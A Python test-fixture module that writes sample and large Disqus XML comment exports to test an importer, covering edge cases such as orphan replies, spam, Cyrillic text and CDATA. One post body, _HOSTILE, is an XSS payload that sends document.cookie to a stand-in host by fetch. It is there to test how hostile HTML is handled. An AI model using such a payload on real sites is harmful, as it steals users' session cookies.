"""Disqus exports to read: a small sample with every odd case, and a large one for load.

Both follow the export Disqus mails (namespaces http://disqus.com and
http://disqus.com/disqus-internals, schema disqus.xsd/internals.xsd): categories, then
threads, then posts naming their thread and parent by `dsq:id`. The XML is written as text,
not through an XML library, so a reader is checked against the file as Disqus writes it.
`write_sample` returns the records a reader should yield, with the line of each post.
"""

from __future__ import annotations

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime
from pathlib import Path
from xml.sax.saxutils import escape, quoteattr

from comments.importing.records import Record, SourceAuthor, SourcePost, SourceThread, State

HEADER = (
    '<?xml version="1.0" encoding="utf-8"?>\n'
    '<disqus xmlns="http://disqus.com" xmlns:dsq="http://disqus.com/disqus-internals"'
    ' xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"'
    ' xsi:schemaLocation="http://disqus.com/api/schemas/1.0/disqus.xsd'
    ' http://disqus.com/api/schemas/1.0/internals.xsd">\n'
    '  <category dsq:id="3400001">\n'
    "    <forum>dailynews</forum>\n"
    "    <title>General</title>\n"
    "    <isDefault>true</isDefault>\n"
    "  </category>\n"
)
FOOTER = "</disqus>\n"


@dataclass(frozen=True)
class Author:
    """A commenter as Disqus exports them."""

    name: str
    email: str = ""
    username: str = ""
    anonymous: bool = False


def author_element(author: Author) -> str:
    username = f"      <username>{escape(author.username)}</username>\n" if author.username else ""
    return (
        "    <author>\n"
        f"      <email>{escape(author.email)}</email>\n"
        f"      <name>{escape(author.name)}</name>\n"
        f"      <isAnonymous>{str(author.anonymous).lower()}</isAnonymous>\n"
        f"{username}"
        "    </author>\n"
    )


def thread_element(
    dsq_id: str,
    *,
    identifier: str = "",
    link: str,
    title: str,
    created: str = "2013-01-10T09:00:00Z",
    closed: bool = False,
) -> str:
    ident = f"    <id>{escape(identifier)}</id>\n" if identifier else "    <id />\n"
    return (
        f"  <thread dsq:id={quoteattr(dsq_id)}>\n"
        f"{ident}"
        "    <forum>dailynews</forum>\n"
        '    <category dsq:id="3400001" />\n'
        f"    <link>{escape(link)}</link>\n"
        f"    <title>{escape(title)}</title>\n"
        "    <message />\n"
        f"    <createdAt>{created}</createdAt>\n"
        f"{author_element(Author('Newsroom', 'desk@news.example.com', 'newsroom'))}"
        "    <ipAddress>192.0.2.1</ipAddress>\n"
        f"    <isClosed>{str(closed).lower()}</isClosed>\n"
        "    <isDeleted>false</isDeleted>\n"
        "  </thread>\n"
    )


def post_element(
    dsq_id: str,
    *,
    thread: str,
    message: str,
    author: Author,
    created: str = "2013-01-11T10:00:00Z",
    parent: str | None = None,
    deleted: bool = False,
    spam: bool = False,
    cdata: bool = False,
) -> str:
    body = f"<![CDATA[{message}]]>" if cdata else escape(message)
    parent_line = f"    <parent dsq:id={quoteattr(parent)} />\n" if parent else ""
    return (
        f"  <post dsq:id={quoteattr(dsq_id)}>\n"
        "    <id />\n"
        f"    <message>{body}</message>\n"
        f"    <createdAt>{created}</createdAt>\n"
        f"    <isDeleted>{str(deleted).lower()}</isDeleted>\n"
        f"    <isSpam>{str(spam).lower()}</isSpam>\n"
        f"{author_element(author)}"
        "    <ipAddress>198.51.100.7</ipAddress>\n"
        f"    <thread dsq:id={quoteattr(thread)} />\n"
        f"{parent_line}"
        "  </post>\n"
    )


def document(*elements: str) -> str:
    """A whole export holding these thread and post elements."""
    return HEADER + "".join(elements) + FOOTER


@dataclass(frozen=True)
class Expected:
    """What reading the sample must give, and which post shows which odd case."""

    records: list[Record]
    threads: int
    posts: int
    orphan: str  # its thread is not in the file
    early_reply: str  # comes before its parent
    early_parent: str
    chain: tuple[str, ...]  # a root and its replies, each answering the last: 4 deep
    deleted: str
    spam: str  # also marked deleted: spam wins
    cyrillic: str
    hostile: str  # a <script> in its body
    cdata: str  # its <message> is CDATA
    anonymous: str
    no_username: str
    naive_date: str  # createdAt without a zone


ANNA = Author("Anna Kowalska", "anna@example.org", "anna_k")
BEN = Author("Ben O'Neil", "ben@example.net", "ben_oneil")
OLEG = Author("Олег Петренко", "oleg@example.com.ua", "oleg_p")
GUEST = Author("Guest reader", "", "", anonymous=True)
PLAIN = Author("Chris", "chris@example.com")  # a guest with a name but no account

_THREADS = [
    (
        "7001001",
        "article-42",
        "https://news.example.com/2013/01/budget-vote/",
        "Budget vote",
        False,
    ),
    (
        "7001002",
        "",
        "https://news.example.com/world/kyiv-metro/",
        "Киевское метро: новая линия",
        True,
    ),
    (
        "7001003",
        "node/17",
        "https://news.example.com/q-and-a/?ref=home&page=2",
        "Q&A <live>",
        False,
    ),
]

_HTML = (
    '<p>Good <b>point</b>, see <a href="https://example.org/report" rel="nofollow">'
    "the report</a>.</p>"
)
_CYRILLIC = "<p>Наконец-то! Жду открытия станции «Золотые ворота». Ёлки-палки, сколько лет…</p>"
_HOSTILE = '<p>nice</p><script>fetch("https://evil.example/?c="+document.cookie)</script>'
_CDATA = "<p>Inside <b>CDATA</b> & unescaped <i>markup</i></p>"


@dataclass(frozen=True)
class _Post:
    dsq_id: str
    thread: str
    parent: str | None
    author: Author
    message: str
    created: str
    deleted: bool = False
    spam: bool = False
    cdata: bool = False


_SPAM = '<p>Cheap pills at <a href="http://spam.example">x</a></p>'
_POSTS = [
    _Post("900001", "7001001", None, ANNA, _HTML, "2013-01-11T10:00:00Z"),
    _Post("900003", "7001001", "900002", ANNA, "<p>Two deep.</p>", "2013-01-11T12:00:00Z"),
    _Post("900002", "7001001", "900001", BEN, "<p>One deep.</p>", "2013-01-11T11:00:00Z"),
    _Post("900004", "7001001", "900003", BEN, "<p>Three deep.</p>", "2013-01-11T13:00:00Z"),
    _Post("900005", "7001001", "900004", ANNA, "<p>Four deep.</p>", "2013-01-11T14:00:00Z"),
    _Post("900006", "7001001", None, BEN, "<p>Gone.</p>", "2013-01-12T08:00:00Z", deleted=True),
    _Post("900007", "7001002", None, PLAIN, _SPAM, "2013-02-01T00:00:00Z", True, True),
    _Post("900008", "7001002", None, OLEG, _CYRILLIC, "2013-02-02T15:30:00+02:00"),
    _Post("900009", "7001003", None, GUEST, _HOSTILE, "2013-03-01T09:15:00Z"),
    _Post("900010", "7001003", "900009", PLAIN, _CDATA, "2013-03-01T09:20:00Z", cdata=True),
    _Post("900011", "7009999", None, BEN, "<p>On a lost article.</p>", "2013-03-02T10:00:00Z"),
    _Post("900012", "7001003", None, ANNA, "<p>Old widget, no zone.</p>", "2013-01-15T08:30:00"),
]


def _source_author(author: Author) -> SourceAuthor:
    key = "" if author.anonymous else (author.username or author.name)
    return SourceAuthor(key=key, name=author.name, email=author.email or None)


def _date(text: str) -> datetime:
    moment = datetime.fromisoformat(text)
    return moment.replace(tzinfo=UTC) if moment.tzinfo is None else moment.astimezone(UTC)


def write_sample(path: Path, **options: str) -> Expected:
    """Write the sample export; `options` may override a post's body by its dsq:id."""
    parts = [HEADER]
    records: list[Record] = []
    line = HEADER.count("\n") + 1
    for dsq_id, identifier, link, title, closed in _THREADS:
        element = thread_element(
            dsq_id, identifier=identifier, link=link, title=title, closed=closed
        )
        records.append(
            SourceThread(
                source_id=dsq_id, url=link, title=title, key=identifier or None, closed=closed
            )
        )
        parts.append(element)
        line += element.count("\n")
    for post in _POSTS:
        body = options.get(f"body_{post.dsq_id}", post.message)
        element = post_element(
            post.dsq_id,
            thread=post.thread,
            message=body,
            author=post.author,
            created=post.created,
            parent=post.parent,
            deleted=post.deleted,
            spam=post.spam,
            cdata=post.cdata,
        )
        state: State = "spam" if post.spam else "deleted" if post.deleted else "approved"
        records.append(
            SourcePost(
                source_id=post.dsq_id,
                thread_source_id=post.thread,
                author=_source_author(post.author),
                created_at=_date(post.created),
                body=body,
                body_format="html",
                parent_source_id=post.parent,
                state=state,
                line=line,
            )
        )
        parts.append(element)
        line += element.count("\n")
    parts.append(FOOTER)
    path.write_text("".join(parts), encoding="utf-8")
    return Expected(
        records=records,
        threads=len(_THREADS),
        posts=len(_POSTS),
        orphan="900011",
        early_reply="900003",
        early_parent="900002",
        chain=("900001", "900002", "900003", "900004", "900005"),
        deleted="900006",
        spam="900007",
        cyrillic="900008",
        hostile="900009",
        cdata="900010",
        anonymous="900009",
        no_username="900010",
        naive_date="900012",
    )


@dataclass(frozen=True)
class LargeSample:
    """What a large export holds, to check a reader read all of it."""

    threads: int
    posts: int
    last_post: str
    last_post_line: int


def _large_elements(comments: int, per_thread: int, body_chars: int) -> Iterator[str]:
    threads = max(1, comments // per_thread)
    for t in range(threads):
        yield thread_element(
            f"{8_000_000 + t}",
            identifier=f"story-{t}",
            link=f"https://news.example.com/story/{t}/",
            title=f"Story number {t}",
        )
    filler = ("Lorem ipsum dolor sit amet, статья о бюджете, " * (body_chars // 40 + 1))[
        :body_chars
    ]
    for n in range(comments):
        thread = 8_000_000 + (n * 7919) % threads  # scattered, as Disqus orders them
        parent = str(10_000_000 + n - 1) if n % 3 else None
        yield post_element(
            str(10_000_000 + n),
            thread=str(thread),
            message=f"<p>{filler} #{n}</p>",
            author=Author(f"Reader {n % 5000}", f"r{n % 5000}@example.com", f"reader{n % 5000}"),
            parent=parent,
        )


def write_large(
    path: Path, comments: int = 200_000, *, per_thread: int = 40, body_chars: int = 300
) -> LargeSample:
    """Stream a large export to disk, a chunk at a time."""
    line = 1
    last_line = 0
    chunk: list[str] = []
    with path.open("w", encoding="utf-8") as file:
        file.write(HEADER)
        line += HEADER.count("\n")
        for element in _large_elements(comments, per_thread, body_chars):
            if element.startswith("  <post"):
                last_line = line
            line += element.count("\n")
            chunk.append(element)
            if len(chunk) >= 1000:
                file.write("".join(chunk))
                chunk.clear()
        file.write("".join(chunk))
        file.write(FOOTER)
    return LargeSample(
        threads=max(1, comments // per_thread),
        posts=comments,
        last_post=str(10_000_000 + comments - 1),
        last_post_line=last_line,
    )
